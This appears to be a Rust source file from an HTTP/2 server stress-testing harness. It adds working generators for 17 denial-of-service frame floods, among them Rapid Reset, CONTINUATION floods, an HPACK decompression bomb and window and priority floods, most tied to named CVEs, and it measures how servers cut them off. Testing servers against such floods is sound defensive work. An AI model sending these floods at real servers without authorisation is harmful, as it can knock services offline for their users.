@@ -1,0 +1,238 @@
+//! Frames of HTTP/2 that cost the server more than the client: so many of a kind, on a few connections,
+//! at a pace, with polite clients beside them. Every bound stands in the file of the case.
+
+use super::Member;
+use crate::pressure::{Plan, Round};
+use crate::{Runner, habits};
+use dialogue::http2::{
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME_HEAD, HEADERS, PING, PRIORITY, RST_STREAM,
+    SETTINGS, Spoken, WINDOW_UPDATE, code_name, write,
+};
+use dialogue::talk::{Awaited, Move, TalkEnd, TalkScript};
+use std::collections::BTreeMap;
+use torture::case::{Case, Family};
+use torture::judge::TestOutcome;
+use torture::result::{CaseResult, Measure, Unit};
+use units::{Nanos, show};
+
+pub(super) const MEMBERS: &[Member] = &[Member { name: "frames", run }];
+
+/// Frames of one connection at most, whatever a file says.
+const FRAMES_MAX: u64 = 10_000;
+/// Between the beginnings of two connections.
+const APART: Nanos = Nanos::from_millis(20);
+/// How long a connection would stay if nobody ended it.
+const LIFE: Nanos = Nanos::from_secs(120);
+const CANCEL: [u8; 4] = [0, 0, 0, 8];
+const HEADER_TABLE_SIZE: u16 = 1;
+const INITIAL_WINDOW_SIZE: u16 = 4;
+/// Bytes of the field that a block of the bomb names again and again; it fits the usual table.
+const BOMB_FIELD: usize = 3_900;
+/// How often one block names it: a thousand bytes become some four million.
+const BOMB_TIMES: usize = 1_000;
+/// The first entry of the dynamic table, as an indexed field (RFC 7541 sections 2.3.3 and 6.1).
+const NEWEST: u8 = 0x80 | 62;
+/// A field that is in nobody's static table.
+const FILLER: usize = 64;
+
+/// What one frame, or a pair of frames, of the flood is.
+type Make = fn(&Flood<'_>, u32) -> Vec<u8>;
+
+/// What the frames are made of.
+struct Flood<'a> {
+    /// The block of a plain request.
+    block: &'a [u8],
+}
+
+impl Flood<'_> {
+    fn request(&self, number: u32) -> Vec<u8> {
+        write::request(2 * number + 1, self.block)
+    }
+
+    /// A request whose content does not come.
+    fn begun(&self, number: u32) -> Vec<u8> {
+        write::frame(HEADERS, END_HEADERS, 2 * number + 1, self.block)
+    }
+}
+
+/// A kind of flood: what comes once before it, and what comes again and again.
+struct Kind {
+    name: &'static str,
+    before: Make,
+    each: Make,
+}
+
+const fn kind(name: &'static str, before: Make, each: Make) -> Kind {
+    Kind { name, before, each }
+}
+
+fn nothing(_: &Flood<'_>, _: u32) -> Vec<u8> {
+    Vec::new()
+}
+
+const KINDS: [Kind; 17] = [
+    // CVE-2023-44487
+    kind("reset", nothing, |flood, number| {
+        [flood.request(number), write::frame(RST_STREAM, 0, 2 * number + 1, &CANCEL)].concat()
+    }),
+    // CVE-2025-8671: the server is made to reset
+    kind("made-reset", nothing, |flood, number| {
+        [flood.request(number), write::frame(WINDOW_UPDATE, 0, 2 * number + 1, &[0; 4])].concat()
+    }),
+    // CVE-2024-27316 and its family
+    kind(
+        "continuation",
+        |flood, _| write::frame(HEADERS, END_STREAM, 1, flood.block),
+        |_, number| write::frame(CONTINUATION, 0, 1, &filler(number)),
+    ),
+    kind(
+        "empty-continuation",
+        |flood, _| write::frame(HEADERS, END_STREAM, 1, flood.block),
+        |_, _| write::frame(CONTINUATION, 0, 1, &[]),
+    ),
+    // CVE-2019-9512, 9515, 9518, 9513, 9511, 9517
+    kind("ping", nothing, |_, number| write::frame(PING, 0, 0, &u64::from(number).to_be_bytes())),
+    kind("settings", nothing, |_, _| write::frame(SETTINGS, 0, 0, &[])),
+    kind("settings-changed", nothing, |_, number| {
+        let table = write::setting(HEADER_TABLE_SIZE, 4_096 * (number % 2));
+        let window = write::setting(INITIAL_WINDOW_SIZE, 65_535 + number % 2);
+        write::frame(SETTINGS, 0, 0, &[table, window].concat())
+    }),
+    kind("empty-data", |flood, _| flood.begun(0), |_, _| write::frame(DATA, 0, 1, &[])),
+    kind("priority", nothing, |_, number| {
+        let (stream, parent) = (2 * (number % 100) + 1, 2 * ((number + 1) % 100) + 1);
+        write::frame(PRIORITY, 0, stream, &[&parent.to_be_bytes()[..], &[15]].concat())
+    }),
+    kind("unknown", nothing, |_, _| write::frame(250, 0, 0, b"loadstone")),
+    kind(
+        "window-of-one",
+        |flood, _| {
+            let window = write::setting(INITIAL_WINDOW_SIZE, 1);
+            [write::frame(SETTINGS, 0, 0, &window), flood.request(0)].concat()
+        },
+        |_, _| write::frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]),
+    ),
+    kind(
+        "window-of-zero",
+        |_, _| write::frame(SETTINGS, 0, 0, &write::setting(INITIAL_WINDOW_SIZE, 0)),
+        |flood, number| flood.request(number),
+    ),
+    kind("streams", nothing, |flood, number| flood.begun(number)),
+    kind(
+        "hpack-bomb",
+        |flood, _| {
+            let mut block = flood.block.to_vec();
+            hpack_kept(BOMB_FIELD, &mut block);
+            write::request(1, &block)
+        },
+        |flood, number| {
+            let block = [flood.block, &[NEWEST; BOMB_TIMES]].concat();
+            write::request(2 * number + 3, &block)
+        },
+    ),
+    kind("table-churn", nothing, |flood, number| {
+        let mut block = flood.block.to_vec();
+        block.extend(filler_kept(number));
+        write::request(2 * number + 1, &block)
+    }),
+    // a table of priorities that grows with streams that never begin
+    kind("idle-priorities", nothing, |_, number| {
+        write::frame(PRIORITY, 0, 2 * number + 1, &[0, 0, 0, 0, 15])
+    }),
+    kind("window-updates", nothing, |_, _| write::frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
+];
+
+/// A literal that no table keeps, different each time.
+fn filler(number: u32) -> Vec<u8> {
+    let mut out = Vec::new();
+    let name = format!("x-{number}");
+    write::field(name.as_bytes(), &[b'a'; FILLER], &mut out);
+    out
+}
+
+/// A literal that the dynamic table keeps, different each time.
+fn filler_kept(number: u32) -> Vec<u8> {
+    let mut out = Vec::new();
+    let name = format!("x-{number}");
+    write::kept_field(name.as_bytes(), &[b'a'; FILLER], &mut out);
+    out
+}
+
+fn hpack_kept(bytes: usize, block: &mut Vec<u8>) {
+    write::kept_field(b"x-a", &vec![b'a'; bytes], block);
+}
+
+fn run(runner: &mut Runner<'_>, case: &Case, family: &Family, result: &mut CaseResult) {
+    if let Some(why) = runner.noise() {
+        result.outcome = TestOutcome::Inconclusive;
+        result.notes.push(why);
+        return;
+    }
+    let named = family.text("kind");
+    let Some(kind) = KINDS.iter().find(|kind| kind.name == named) else {
+        result.outcome = TestOutcome::Inconclusive;
+        result.notes.push(format!("{} is no kind of flood", units::quoted(named)));
+        return;
+    };
+    let connections = runner.connections_max(family.count("connections"));
+    let script = script(runner, kind, family);
+    let bytes = torture::record::sent(&script.steps).len() as u64;
+    let scripts = (0..connections).map(|_| script.clone()).collect();
+    let plan = Plan { armed_early: true, ..Plan::paced(scripts, APART, family.span("hold")) };
+    let round = runner.round(&case.id, &plan);
+    tell(family, &round, connections, bytes, result);
+}
+
+/// One connection that floods.
+fn script(runner: &mut Runner<'_>, kind: &Kind, family: &Family) -> TalkScript {
+    let request = habits::plain_frame(runner.target, "");
+    let flood = Flood { block: request.get(FRAME_HEAD..).unwrap_or_default() };
+    let mut steps = vec![
+        Move::Send(write::opening()),
+        Move::Await(Awaited::Settings),
+        Move::Send([write::settings_ack(), (kind.before)(&flood, 0)].concat()),
+    ];
+    let count = family.count("frames").min(FRAMES_MAX) as u32;
+    let each = (family.count("each").max(1) as u32).min(count.max(1));
+    let mut at = 0;
+    while at < count {
+        let end = count.min(at + each);
+        steps.push(Move::Send((at..end).flat_map(|number| (kind.each)(&flood, number)).collect()));
+        steps.push(Move::Pause(family.span("pause")));
+        at = end;
+    }
+    TalkScript { hold: true, spoken: Spoken::Http2Raw, ..runner.bare(steps, LIFE) }
+}
+
+/// What polite clients felt, and what the server did with those who pressed.
+fn tell(family: &Family, round: &Round, connections: u64, bytes: u64, result: &mut CaseResult) {
+    result.outcome = result.outcome.max(round.outcome);
+    result.health = Some(round.health);
+    result.notes.extend(round.notes.iter().cloned());
+    let is_by_server = |end: TalkEnd| matches!(end, TalkEnd::Closed | TalkEnd::Broken(_));
+    let mut words: BTreeMap<String, u64> = BTreeMap::new();
+    for one in &round.ended {
+        let word = match (one.farewell, is_by_server(one.end)) {
+            (Some(code), _) => format!("GOAWAY {}", code_name(code)),
+            (None, true) => "an end without a word".to_owned(),
+            (None, false) => "nothing".to_owned(),
+        };
+        *words.entry(word).or_default() += 1;
+    }
+    let said: Vec<String> =
+        words.iter().map(|(word, count)| format!("{word} on {count}")).collect();
+    let ended = round.ended.iter().filter(|one| is_by_server(one.end) || one.farewell.is_some());
+    let ended: Vec<u64> = ended.map(|one| one.sent).collect();
+    result.measures.push(Measure {
+        what: format!("{} until the server ends it", family.text("kind")),
+        low: ended.iter().min().or(Some(&bytes)).map(|sent| *sent as f64),
+        high: ended.iter().max().filter(|_| !ended.is_empty()).map(|sent| *sent as f64),
+        unit: Unit::Bytes,
+        note: format!(
+            "{} frames, {}, on each of {connections} connections: {}",
+            family.count("frames"),
+            show::bytes(bytes),
+            said.join(", ")
+        ),
+    });
+}
